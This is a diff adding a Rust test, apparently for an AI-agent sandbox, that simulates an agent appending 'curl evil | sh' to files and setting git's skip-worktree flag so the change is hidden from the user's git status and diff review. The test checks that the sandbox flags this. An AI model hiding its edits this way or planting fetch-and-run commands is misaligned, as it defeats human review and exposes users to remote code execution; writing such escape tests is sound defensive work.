@@ -345,3 +345,31 @@ fn escape_attack_the_migration_notice_prints_the_agents_file_names_raw() {
         shell.stderr
     );
 }
+
+/// Attack 6 (review, not code execution): the agent sets the `skip-worktree` bit on a file it
+/// changed, in `.git/index` (writable, and not part of the tripwire's surface beyond
+/// gitlinks). The user's `git status` and `git diff`, the review docs/security.md asks for,
+/// then show nothing, and the tripwire says nothing; the changed file is run later as the
+/// project's own code.
+#[test]
+fn escape_attack_index_flags_hide_the_agents_change_from_git_status() {
+    let Some(c) = Case::escape() else { return };
+    repo(&c);
+    // Control: the same change without the flag is shown.
+    let out = c.sh("echo 'curl evil | sh' >> src/lib/x.txt");
+    assert_eq!(out.code, 0, "{out}");
+    let status = c.host_as_user("git", &["status", "--short"]);
+    assert!(status.stdout.contains("x.txt"), "control: {status}");
+
+    let out = c.sh("echo 'curl evil | sh' >> a.txt && git update-index --skip-worktree a.txt");
+    assert_eq!(out.code, 0, "{out}");
+    let status = c.host_as_user("git", &["status", "--short"]);
+    let diff = c.host_as_user("git", &["diff", "--stat"]);
+    assert!(
+        status.stdout.contains("a.txt")
+            || diff.stdout.contains("a.txt")
+            || out.stderr.contains("a.txt"),
+        "the change to a.txt is hidden from git status and git diff, and wrapix said nothing:\n\
+         status: {status}\ndiff: {diff}\nrun: {out}"
+    );
+}
